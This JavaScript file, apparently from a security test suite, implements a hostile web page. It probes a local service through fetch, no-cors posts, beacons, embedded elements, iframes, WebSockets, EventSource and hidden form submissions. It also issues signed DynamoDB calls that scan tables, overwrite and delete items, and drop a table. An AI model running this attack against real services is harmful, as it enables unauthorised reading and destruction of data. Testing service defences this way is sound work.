// The script of a page that means harm. It tries one address by every way that a browser gives to a page, and says what it
// could read. `what` has the paths, the requests that would change something, and words that only the installation knows.
async function attack(base, what) {
    const tries = [];
    const bounded = (promise) => Promise.race([promise, new Promise((done) => setTimeout(() => done(null), 6000))]);
    const short = (read) => (read === null ? null : String(read).slice(0, 300));
    const note = (how, read, status = null) => tries.push({ how, status, read: short(read) });
    const fetched = async (how, path, options) => {
        const answer = await bounded(fetch(base + path, { signal: AbortSignal.timeout(5000), ...options }).catch(() => null));
        const text = answer && answer.type !== "opaque" ? await bounded(answer.text().catch(() => null)) : null;
        note(how, answer && answer.type === "opaque" ? null : text, answer && answer.status);
        return text;
    };
    const waited = (how, make) =>
        bounded(new Promise((done) => make(() => done("it was loaded"), () => done(null)))).then((read) => note(how, read));

    const reads = what.paths.flatMap((path) => [
        fetched(`GET ${path}`, path, {}),
        fetched(`GET ${path} with the cookies`, path, { credentials: "include" }),
        fetched(`GET ${path} with a token`, path, { headers: { authorization: "Bearer guess" } }),
        fetched(`GET ${path} without CORS`, path, { mode: "no-cors", credentials: "include" }),
    ]);
    await Promise.all(reads);
    for (const one of what.requests) {
        const body = one.body === undefined ? undefined : JSON.stringify(one.body);
        const name = `${one.method} ${one.path} ${(one.headers || {})["x-amz-target"] || ""}`;
        await fetched(name, one.path, { method: one.method, body, headers: one.headers, credentials: one.with || "include" });
        for (const type of ["text/plain", "application/x-www-form-urlencoded"]) {
            await fetched(`${name} without CORS, ${type}`, one.path, {
                method: "POST", mode: "no-cors", credentials: "include", headers: { "content-type": type }, body: body || "",
            });
        }
        navigator.sendBeacon(base + one.path, body || "");
    }
    // Whoever can read the tables changes them by what was read.
    const aws = { "content-type": "application/x-amz-json-1.0", "x-amz-date": what.date, authorization: what.signed };
    const ask = (target, input) => {
        const headers = { ...aws, "x-amz-target": `DynamoDB_20120810.${target}` };
        return fetched(`DynamoDB ${target}`, "/", { method: "POST", headers, body: JSON.stringify(input) });
    };
    await ask("ListTables", {});
    for (const table of what.tables) {
        const scanned = await ask("Scan", { TableName: table });
        try {
            const item = JSON.parse(scanned).Items[0];
            await ask("PutItem", { TableName: table, Item: JSON.parse(JSON.stringify(item).replace(/user_0\w+/g, "evil")) });
            await ask("DeleteItem", { TableName: table, Key: { [Object.keys(item)[0]]: Object.values(item)[0] } });
        } catch { /* Nothing could be read. */ }
    }
    await ask("DeleteTable", { TableName: what.tables[what.tables.length - 1] });

    const element = (name, source, path) => waited(`<${name}> ${path}`, (loaded, failed) => {
        const made = document.createElement(name);
        made.onload = loaded;
        made.onerror = failed;
        if (name === "link") made.rel = "stylesheet";
        made[source] = base + path;
        document.head.append(made);
    });
    const kinds = [["img", "src"], ["script", "src"], ["link", "href"]];
    const elements = what.paths.flatMap((path) => kinds.map(([name, source]) => element(name, source, path)));
    const frames = what.paths.map((path) => waited(`<iframe> ${path}`, (loaded, failed) => {
        const frame = document.createElement("iframe");
        frame.src = base + path;
        frame.onload = () => {
            let text = null;
            try { text = frame.contentDocument.documentElement.innerText; } catch { /* Of another origin. */ }
            note(`<iframe> ${path}, its text`, text, 400);
            failed();
        };
        document.body.append(frame);
    }));
    const sockets = ["/", "/console"].map((path) => waited(`WebSocket ${path}`, (opened, failed) => {
        const socket = new WebSocket(base.replace("http", "ws") + path);
        socket.onopen = socket.onmessage = opened;
        socket.onerror = failed;
    }));
    const sources = ["/", "/runs"].map((path) => waited(`EventSource ${path}`, (opened, failed) => {
        const source = new EventSource(base + path, { withCredentials: true });
        source.onopen = source.onmessage = () => { source.close(); opened(); };
        source.onerror = () => { source.close(); failed(); };
    }));
    await Promise.all([...elements, ...frames, ...sockets, ...sources]);

    // Forms, into a frame each.
    for (const form of what.forms) {
        for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
            await waited(`<form> ${form.path} as ${enctype}`, (_, failed) => {
                const frame = document.createElement("iframe");
                frame.name = `form-${Math.random()}`;
                document.body.append(frame);
                frame.onload = failed;
                send(base, form, enctype, frame.name);
            });
        }
    }
    return tries;
}

// Sends a form; where no frame is named the window itself goes there.
function send(base, form, enctype, target) {
    const made = document.createElement("form");
    Object.assign(made, { method: "post", action: base + form.path, enctype, target: target || "_self" });
    for (const [name, value] of Object.entries(form.fields)) {
        const field = document.createElement("input");
        Object.assign(field, { type: "hidden", name, value });
        made.append(field);
    }
    document.body.append(made);
    made.submit();
}
